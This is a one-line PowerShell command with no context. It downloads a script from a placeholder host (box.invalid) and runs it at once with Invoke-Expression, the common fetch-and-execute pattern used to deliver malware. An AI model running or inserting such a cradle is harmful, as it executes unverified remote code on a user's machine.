iex (iwr https://box.invalid/a.ps1)
